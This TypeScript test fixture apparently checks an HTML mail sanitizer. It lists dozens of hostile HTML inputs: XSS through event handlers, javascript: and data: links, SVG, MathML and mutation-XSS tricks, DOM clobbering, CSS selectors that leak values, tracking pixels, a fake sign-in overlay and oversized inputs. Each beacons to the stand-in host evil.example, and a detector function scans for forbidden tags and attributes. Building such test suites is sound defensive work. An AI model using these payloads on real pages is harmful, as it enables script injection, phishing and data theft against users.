/** Where each vector would call, or tell that it ran. No page may request it. */
export const evil = 'evil.example';

const run = `window.top.pwned=1;window.pwned=1;fetch('https://${evil}/ran')`;
const url = (path: string): string => `https://${evil}/${path}`;

/** HTML that must run nothing, load nothing, and leave nothing dangerous behind, by what it tries. */
export const hostileHtml: Readonly<Record<string, string>> = {
  script: `<script>${run}</script>`,
  'a script of another server': `<script src="${url('s.js')}"></script>`,
  'an event of an image': `<img src=x onerror="${run}">`,
  'an event of the body': `<body onload="${run}" onpageshow="${run}">a</body>`,
  'events in any letters': `<ImG sRc=x OnErRoR="${run}"><a OnMouseOver="${run}" href="#">a</a>`,
  'an autofocused field': `<input autofocus onfocus="${run}"><select autofocus onfocus="${run}">`,
  details: `<details open ontoggle="${run}">a</details>`,
  animation: `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${run}">a</b>`,
  'a popover': `<button popovertarget=x>a</button><p popover id=x onbeforetoggle="${run}">b</p>`,
  'a javascript link': `<a href="javascript:${run}" id=js>a</a>`,
  'a javascript link with a tab and an entity': `<a href="java&#9;script:${run}">a</a><a href="&#x6a;avascript:${run}">b</a>`,
  'a data link': `<a href="data:text/html,<script>${run}</script>">a</a>`,
  'a vbscript link': `<a href="vbscript:msgbox(1)">a</a>`,
  SVG: `<svg onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text>a</text></a><use href="${url('u.svg')}#x"/></svg>`,
  'SVG in a data URL': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  MathML: `<math><maction actiontype="statusline#${url('m')}" xlink:href="javascript:${run}">a</maction></math>`,
  'an iframe': `<iframe src="${url('i')}"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>`,
  'an object': `<object data="${url('o')}"></object><embed src="${url('e')}"><applet code="${url('p')}"></applet>`,
  'a form': `<form action="${url('f')}"><input name=a><button>Send</button></form><button formaction="${url('g')}">b</button>`,
  'a base': `<base href="${url('')}"><a href="a">a</a><img src="b.png">`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${url('r')}">`,
  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  'a style sheet': `<link rel=stylesheet href="${url('s.css')}"><link rel=preconnect href="https://${evil}"><link rel=prefetch href="${url('p')}">`,
  'an import': `<style>@import url(${url('i.css')}); @import "${url('j.css')}";</style>`,
  'a background in style': `<p style="background:url(${url('b.png')})">a</p><p style="background:u\\72l(${url('c.png')})">b</p>`,
  'a font': `<style>@font-face{font-family:x;src:url(${url('x.woff2')})} p{font-family:x}</style><p>a</p>`,
  'an image set': `<style>p{background:image-set("${url('1.png')}" 1x)} b{background:-webkit-image-set(url(${url('2.png')}) 1x)}</style><p><b>a</b></p>`,
  'a cursor and a list': `<p style="cursor:url(${url('c.cur')}),auto;list-style:url(${url('l.png')})">a</p>`,
  'a selector that sends': `<style>input[value^=a]{background:url(${url('a')})} a[href]{border-image:url(${url('d')}) 1}</style><a href="https://a.example">a</a>`,
  'a remote image': `<img src="${url('pixel.png')}" width=1 height=1>`,
  'a remote image without https': `<img src="http://${evil}/pixel.png"><img src="//${evil}/pixel.png">`,
  'images by other attributes': `<img srcset="${url('1.png')} 1x"><picture><source srcset="${url('2.png')}"><img></picture><table background="${url('3.png')}"><tr><td>a</table>`,
  video: `<video src="${url('v')}" poster="${url('p')}" autoplay></video><audio src="${url('a')}" autoplay></audio><track src="${url('t')}">`,
  'a ping': `<a href="https://a.example" ping="${url('ping')}">a</a>`,
  'a template': `<template><img src=x onerror="${run}"></template><template shadowrootmode=open><script>${run}</script></template>`,
  'a mutation by noscript': `<noscript><p title="</noscript><img src=x onerror=${JSON.stringify(run)}>"></noscript>`,
  'a mutation by MathML': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  'a mutation by a table': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'a mutation by a comment': `<!--><img src=x onerror="${run}">--><style><!--</style><img src=x onerror="${run}">`,
  'a mutation by title and textarea': `<textarea><title></textarea><img src=x onerror="${run}"></title>`,
  'names of the document': `<form id=body name=createElement><input name=attributes><img name=getElementById><a id=cookie></a></form>${['getElementsByTagName', 'documentElement', 'childNodes', 'body', 'firstElementChild'].map((name) => `<form name=${name}></form><img name=${name}>`).join('')}`,
  'a target of the page': `<a href="https://a.example" target=_top>a</a><a href="https://a.example" target=_parent>b</a>`,
  'a menu above everything': `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Sign in again</div>`,
  'a closing of the frame': `</body></html></iframe><script>${run}</script><img src=x onerror="${run}">`,
  'an XML instruction': `<?xml-stylesheet href="${url('x.xsl')}"?><![CDATA[<img src=x onerror="${run}">]]>`,
  '100,000 nested elements': '<div>'.repeat(100_000),
  'a table of 2 MB': `<table>${'<tr><td>a<td>b'.repeat(150_000)}</table>`,
  '250 fonts that are left open in 9,000 paragraphs': `<p>${Array.from({ length: 250 }, (_, index) => `<font size=${index}>`).join('')}</p>${'<p>x</p>'.repeat(9000)}`,
  '20,000 nested elements whose end tags are in comments': '<div><!--</div>-->'.repeat(20_000),
  '100,000 attributes without values': `<p ${Array.from({ length: 100_000 }, (_, index) => `a${index.toString(36)}`).join(' ')}>a</p>`,
  '50,000 attributes': `<p ${Array.from({ length: 50_000 }, (_, index) => `a${index}=1`).join(' ')}>a</p>`,
};

/** A function of a page, which finds what must not be in the document of a mail, whatever it contained. */
export const remainsIn = `(document) => {
  const bad = [...document.querySelectorAll('script,link,base,meta[http-equiv],form,input,button,iframe,object,embed,applet,svg,math,video,audio,template')].map((e) => e.tagName);
  for (const e of document.querySelectorAll('*')) for (const { name, value } of e.attributes) {
    if (/^on/i.test(name) || /^(?:srcset|ping|autofocus|popovertarget)$/i.test(name) || /^\\s*(?:javascript|vbscript|data:text)/i.test(value)) bad.push(name + '=' + value.slice(0, 40));
    if (/^(?:src|background|poster|action|data)$/i.test(name) && !/^(?:https:|blob:|data:image\\/(?!svg))/.test(value)) bad.push(name + '=' + value.slice(0, 40));
  }
  for (const a of document.querySelectorAll('a[href]')) if (a.target !== '_blank' || !/noopener/.test(a.rel)) bad.push('link ' + a.outerHTML.slice(0, 60));
  return bad;
}`;

/** Whether HTML of this name holds a browser for seconds, so that its text is shown. */
export const isAboveLimits = (name: string): boolean => /^(?:[\d,]+ |a table of)/.test(name);
